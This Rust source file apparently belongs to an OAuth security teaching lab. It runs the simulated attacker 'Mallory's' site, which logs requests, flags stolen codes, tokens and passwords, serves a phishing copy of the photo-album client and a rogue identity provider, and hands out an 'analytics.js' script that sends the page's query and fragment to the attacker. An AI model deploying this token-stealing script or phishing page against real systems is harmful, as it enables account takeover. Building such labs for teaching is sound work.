//! The attacker's site: it writes down everything that comes in, serves the page that an exploit
//! prepares, and pretends to be a provider.

mod provider;

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use askama::Template;
use auth_core::jwt::{Algorithm, SigningKey};
use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::response::{IntoResponse, Response};
use axum::routing::{any, get};
use http::{HeaderMap, Method, StatusCode, Uri, header};
use serde_json::json;

use super::{World, page};
use crate::lock;

#[derive(Default)]
pub(crate) struct Store {
    /// `page`, `authorize`, `token-response`, `stall`: what an exploit has prepared.
    prepared: Mutex<HashMap<&'static str, String>>,
    received: Mutex<Vec<Received>>,
    nonce: Mutex<String>,
    key: Mutex<Option<SigningKey>>,
}

/// A request that came in.
#[derive(Clone)]
struct Received {
    /// All of it, on one line.
    line: String,
    /// Method and path.
    what: String,
    /// Query and form.
    params: Vec<(String, String)>,
}

/// What a room looks at: what has arrived.
#[derive(Template)]
#[template(path = "attacker_received.html")]
struct Notebook {
    heading: &'static str,
    all: Vec<Received>,
    /// Everything, or what came just now.
    whole: bool,
}

/// A page that an exploit has prepared, as it is.
#[derive(Template)]
#[template(path = "attacker_page.html")]
struct Prepared {
    inside: String,
}

/// Whether this parameter is worth stealing. What a script finds where nothing is, is `null`.
fn is_secret(name: &str, value: &str) -> bool {
    value != "null"
        && ["code", "code_verifier", "access_token", "id_token", "token", "password"].contains(&name)
}

impl Store {
    pub(crate) fn prepare(&self, key: &'static str, value: String) {
        lock(&self.prepared).insert(key, value);
    }

    pub(crate) fn log(&self) -> Vec<String> {
        lock(&self.received).iter().map(|received| received.line.clone()).collect()
    }

    /// The latest value of a parameter that came in, of a query, a form or a reported fragment.
    pub(crate) fn received(&self, name: &str) -> Option<String> {
        let all = lock(&self.received);
        let pairs = all.iter().rev().flat_map(|received| received.params.iter());
        pairs.into_iter().find(|(key, _)| key == name).map(|(_, value)| value.clone())
    }

    fn prepared(&self, key: &str) -> Option<String> {
        lock(&self.prepared).get(key).cloned()
    }

    fn write_down(&self, method: &Method, uri: &Uri, body: &Bytes) -> Received {
        let body = String::from_utf8_lossy(body);
        let pairs =
            |text: &str| url::form_urlencoded::parse(text.as_bytes()).into_owned().collect::<Vec<_>>();
        let mut params = pairs(uri.query().unwrap_or_default());
        params.extend(pairs(&body));
        let line = format!("{method} {uri} {body}").trim_end().to_owned();
        let received = Received { line, what: format!("{method} {}", uri.path()), params };
        lock(&self.received).push(received.clone());
        received
    }

    /// The key of the attacker's own provider, made when it is first needed.
    fn key(&self) -> Option<SigningKey> {
        let mut key = lock(&self.key);
        if key.is_none() {
            *key = SigningKey::generate(Algorithm::ES256).ok();
        }
        key.clone()
    }
}

pub(super) fn routes() -> Router<Arc<World>> {
    Router::new()
        .route("/page", get(page))
        .route("/phish", get(phish).post(write_down))
        .route("/analytics.js", get(analytics))
        .route("/authorize", get(provider::authorize))
        .route("/token", any(provider::token))
        .route("/jwks.json", get(provider::jwks))
        .route("/log", get(log))
        .route("/", any(write_down))
        .route("/{*anything}", any(write_down))
        .merge(page::assets())
}

/// Every other path: written down, and answered politely.
async fn write_down(State(world): State<Arc<World>>, method: Method, uri: Uri, body: Bytes) -> Response {
    let received = world.live().attacker.write_down(&method, &uri, &body);
    let notebook = Notebook { heading: "Mallory has written that down", all: vec![received], whole: false };
    page::wide_page(StatusCode::OK, "Quiz night", &notebook)
}

/// Everything that came in: a page for a browser, lines for a program.
async fn log(State(world): State<Arc<World>>, headers: HeaderMap) -> Response {
    let live = world.live();
    let accept = headers.get(header::ACCEPT).and_then(|accept| accept.to_str().ok());
    if !accept.is_some_and(|accept| accept.contains("text/html")) {
        return page::json(StatusCode::OK, &json!(live.attacker.log()));
    }
    let mut all = lock(&live.attacker.received).clone();
    // The prey is what came last.
    all.reverse();
    let notebook = Notebook { heading: "Mallory's notebook", all, whole: true };
    page::wide_page(StatusCode::OK, "Mallory's notebook", &notebook)
}

async fn page(State(world): State<Arc<World>>) -> Response {
    let inside = world.live().attacker.prepared("page").unwrap_or_default();
    page::page(StatusCode::OK, "Quiz night", &Prepared { inside })
}

/// A page that looks like the album's, down to the name at its top. The address bar alone says where it is.
#[derive(Template)]
#[template(path = "phish.html")]
struct Phish;

async fn phish(State(world): State<Arc<World>>, uri: Uri) -> Response {
    world.live().attacker.write_down(&Method::GET, &uri, &Bytes::new());
    page::disguised_page("Photo album", &world.urls.client, "client: the photo album", &Phish)
}

/// "Statistics": the whole address of the page that loads this, fragment and all.
async fn analytics(State(world): State<Arc<World>>) -> Response {
    let collect = format!("{}/collect", world.urls.attacker);
    let script = format!(
        "fetch('{collect}?' + location.search.slice(1) + '&' + location.hash.slice(1), {{ mode: 'no-cors' }});\n"
    );
    ([(header::CONTENT_TYPE, "text/javascript")], script).into_response()
}
